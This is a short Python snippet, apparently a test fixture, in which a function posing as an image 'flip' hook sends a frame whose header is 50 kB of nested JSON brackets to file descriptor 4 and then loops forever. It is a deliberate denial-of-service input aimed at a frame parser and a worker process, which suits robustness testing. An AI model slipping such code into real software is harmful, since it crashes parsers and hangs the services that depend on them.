# Sends a frame whose header is 50 kB of nested JSON lists.
import os
def flip(images, indices, epoch):
    b = b"[" * 50000
    b = b"atf1" + len(b).to_bytes(4, "big") + b
    while b: b = b[os.write(4, b[:1 << 16]):]
    while True: pass
